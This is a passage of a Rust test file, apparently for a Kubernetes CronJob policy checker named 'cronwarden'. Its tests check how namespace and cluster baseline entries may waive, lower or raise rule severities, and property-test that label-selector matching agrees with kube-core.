/// (SPEC 2.2 as of 2026-12-07): above medium only a cluster entry naming
/// the namespace relaxes.
#[test]
fn what_each_tier_may_relax_for_every_rule() {
    let mut tiers = vec![Tier::Namespace];
    for m in [Match::Name, Match::Pattern, Match::Selector] {
        tiers.push(Tier::Cluster(m, false));
        tiers.push(Tier::Cluster(m, true));
    }
    let mut checked = 0;
    for &rule in Rule::ALL {
        for &tier in &tiers {
            let Some((_, base, _)) = run(rule, tier, Relax::None) else {
                continue;
            };
            let fired: Vec<Severity> = base.iter().filter(|v| v.0 == rule).map(|v| v.1).collect();
            if rule == Rule::SensitiveNamespace && tier != Tier::Namespace {
                assert!(fired.is_empty(), "a cluster entry approves it");
                continue;
            }
            assert!(
                !fired.is_empty(),
                "{rule} must fire unrelaxed ({tier:?}): {base:?}"
            );
            let s0 = fired[0];
            let (may_waive, may_lower) = match tier {
                Tier::Namespace => {
                    let r = rule.info().namespace_may_relax && s0 <= Severity::Medium;
                    (r, r)
                }
                Tier::Cluster(_, scoped) => {
                    let r = scoped || s0 <= Severity::Medium;
                    (r, r)
                }
            };
            for relax in [Relax::Waive, Relax::Lower, Relax::Raise] {
                let (e, v, key) = run(rule, tier, relax).unwrap();
                let got: Vec<Severity> = v.iter().filter(|x| x.0 == rule).map(|x| x.1).collect();
                let report = e.baselines.iter().find(|b| b.key() == key).unwrap();
                let ctx = format!(
                    "{rule} {tier:?} {relax:?}: {v:?} {:?} {:?}",
                    report.problems, report.restricted
                );
                if relax == Relax::Waive && rule.kind() != RuleKind::Heuristic {
                    // Only heuristics can be waived: the entry is invalid
                    // and approves nothing (fail closed).
                    assert_eq!(report.problems.len(), 1, "{ctx}");
                    continue;
                }
                assert!(report.problems.is_empty(), "{ctx}");
                let honoured = match relax {
                    Relax::Waive => may_waive,
                    Relax::Lower => may_lower,
                    _ => true,
                };
                match (relax, honoured) {
                    (Relax::Waive, true) => assert!(got.is_empty(), "{ctx}"),
                    (Relax::Lower, true) => assert_eq!(got, vec![Severity::Info], "{ctx}"),
                    (Relax::Raise, _) => assert_eq!(got, vec![Severity::Critical], "{ctx}"),
                    (_, false) => {
                        assert_eq!(got, vec![s0], "{ctx}");
                        assert_eq!(report.restricted.len(), 1, "{ctx}");
                        assert!(report.restricted[0].contains(rule.as_str()), "{ctx}");
                    }
                    (Relax::None, _) => unreachable!(),
                }
                if honoured {
                    assert!(report.restricted.is_empty(), "{ctx}");
                }
                checked += 1;
            }
        }
    }
    // Namespace tier: 15 rules x 3, less the 7 baseline-rule waivers
    // (invalid entry, checked above): 38. Cluster, 6 ways: 14 rules (not
    // SensitiveNamespace, which any cluster entry approves) less 7
    // waivers x 6 = 35 x 6 = 210, less ApprovedCronJobMissing's 2 cases
    // x 4 pattern/selector ways (8).
    assert_eq!(checked, 38 + 210 - 8, "{checked} cases");
}

mod label_selectors {
    //! An entry's `selector` is matched against a view's compact
    //! `LabelSet`; it must agree with kube-core's `Selector::matches` over
    //! the same labels as a map, for every operator.
    use cronwarden::engine::LabelSet;
    use kube::core::{Expression, Selector, SelectorExt};
    use proptest::prelude::*;

    fn key() -> impl Strategy<Value = String> {
        prop::sample::select(vec!["app", "team", "tier", "a.b/c"]).prop_map(str::to_owned)
    }
    fn value() -> impl Strategy<Value = String> {
        prop::sample::select(vec!["", "x", "y", "z"]).prop_map(str::to_owned)
    }
    fn expression() -> impl Strategy<Value = Expression> {
        let values = || prop::collection::btree_set(value(), 0..3);
        prop_oneof![
            (key(), values()).prop_map(|(k, v)| Expression::In(k, v)),
            (key(), values()).prop_map(|(k, v)| Expression::NotIn(k, v)),
            key().prop_map(Expression::Exists),
            key().prop_map(Expression::DoesNotExist),
            (key(), value()).prop_map(|(k, v)| Expression::Equal(k, v)),
            (key(), value()).prop_map(|(k, v)| Expression::NotEqual(k, v)),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 4000, ..ProptestConfig::default() })]
        #[test]
        fn label_set_matches_like_kube_core(
            labels in prop::collection::btree_map(key(), value(), 0..4),
            exprs in prop::collection::vec(expression(), 0..4),
        ) {
            let selector: Selector = exprs.iter().cloned().collect();
            let set = LabelSet::from(labels.clone());
            prop_assert_eq!(set.satisfies(&exprs), selector.matches(&labels));
            for (k, v) in &labels {
                prop_assert_eq!(set.get(k), Some(v.as_str()));
            }
            prop_assert_eq!(set.get("absent"), None);
        }
    }
}
